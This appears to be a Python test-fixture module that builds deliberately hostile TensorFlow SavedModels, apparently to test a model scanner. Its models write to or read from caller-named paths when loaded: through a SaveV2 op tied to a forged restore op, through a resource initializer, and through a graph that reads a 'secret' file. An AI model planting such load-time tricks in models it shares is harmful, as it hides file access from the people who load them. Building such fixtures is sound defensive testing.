"""Hostile SavedModels, built at test time with public TensorFlow APIs or small proto edits.

Each writes to (or reads from) a path the caller names, during `tf.saved_model.load` or a
call, and otherwise looks like an ordinary model.
"""

from __future__ import annotations

from pathlib import Path

import tensorflow as tf
from tensorflow.core.framework import attr_value_pb2
from tensorflow.core.protobuf import saved_model_pb2


def read_proto(model: Path) -> saved_model_pb2.SavedModel:
    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((model / "saved_model.pb").read_bytes())
    return proto


def write_proto(model: Path, proto: saved_model_pb2.SavedModel) -> None:
    (model / "saved_model.pb").write_bytes(proto.SerializeToString())


def save_v2_nodes(target: str, scope: str) -> list:
    """Top-level NodeDefs of a `SaveV2` writing a checkpoint to `target`."""
    graph = tf.Graph()
    with graph.as_default():
        tf.raw_ops.SaveV2(
            prefix=tf.constant(target, name=f"{scope}/prefix"),
            tensor_names=tf.constant(["x"], name=f"{scope}/names"),
            shape_and_slices=tf.constant([""], name=f"{scope}/slices"),
            tensors=[tf.constant(1.0, name=f"{scope}/value")],
            name=f"{scope}/SaveV2",
        )
    return list(graph.as_graph_def().node)


def tf1_forged_restore(model: Path, target: str) -> Path:
    """A TF1 Builder model whose restore op also runs a `SaveV2` to `target` (control input)."""
    graph = tf.Graph()
    with graph.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [None], name="x")
        v = tf.compat.v1.get_variable("v", initializer=2.0)
        with tf.compat.v1.Session() as session:
            session.run(tf.compat.v1.global_variables_initializer())
            builder = tf.compat.v1.saved_model.Builder(str(model))
            builder.add_meta_graph_and_variables(
                session, ["serve"],
                signature_def_map={"serving_default": tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": x * v})},
            )
            builder.save()
    proto = read_proto(model)
    meta = proto.meta_graphs[0]
    meta.graph_def.node.extend(save_v2_nodes(target, "evil"))
    [restore] = [n for n in meta.graph_def.node if n.name == meta.saver_def.restore_op_name]
    restore.input.append("^evil/SaveV2")
    write_proto(model, proto)
    return model


class _Table(tf.saved_model.experimental.TrackableResource):
    """A resource whose initializer (run by `tf.saved_model.load`) writes a checkpoint."""

    def __init__(self, target: str):
        self._target = target
        super().__init__()

    def _create_resource(self):
        return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

    def _initialize(self):
        tf.raw_ops.SaveV2(
            prefix=self._target, tensor_names=["x"], shape_and_slices=[""], tensors=[tf.constant(1.0)]
        )
        return tf.constant(0)


class _Model(tf.Module):
    def __init__(self, resource):
        super().__init__()
        self.resource = resource
        self.v = tf.Variable(2.0)

    @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
    def __call__(self, x):
        # Using the resource makes loading create and initialize it.
        size = tf.raw_ops.LookupTableSizeV2(table_handle=self.resource.resource_handle)
        return x * self.v + tf.cast(size, tf.float32)


def tf2_initializer_io(model: Path, target: str) -> Path:
    """A TF2 model (public APIs only) whose resource initializer writes to `target` on load."""
    tf.saved_model.save(_Model(_Table(target)), str(model))
    return model


def tf2_forged_restore(model: Path, target: str) -> Path:
    """`tf2_initializer_io` plus a restore op that claims every library function as the saver's."""
    tf2_initializer_io(model, target)
    proto = read_proto(model)
    meta = proto.meta_graphs[0]
    forged = meta.graph_def.node.add(name="forged_restore", op="NoOp")
    forged.attr["functions"].list.func.extend(
        [attr_value_pb2.NameAttrList(name=f.signature.name) for f in meta.graph_def.library.function]
    )
    meta.saver_def.restore_op_name = "forged_restore"
    write_proto(model, proto)
    return model


def with_op(model: Path, op: str, inputs: list[str] | None = None, **attrs) -> Path:
    """Adds an `op` node to the model's `__call__` function (never run: the scan must see it)."""
    proto = read_proto(model)
    library = proto.meta_graphs[0].graph_def.library.function
    [call] = [f for f in library if "__call__" in f.signature.name]
    node = call.node_def.add(name=f"added_{op}", op=op)
    node.input.extend(inputs or [])
    for name, value in attrs.items():
        node.attr[name].CopyFrom(value)
    write_proto(model, proto)
    return model


def dataset_graph_string(secret: str) -> bytes:
    """A serialized GraphDef holding a `TextLineDataset` over `secret` (built, never run)."""
    graph = tf.Graph()
    with graph.as_default():
        tf.data.TextLineDataset(secret)
    return graph.as_graph_def().SerializeToString()
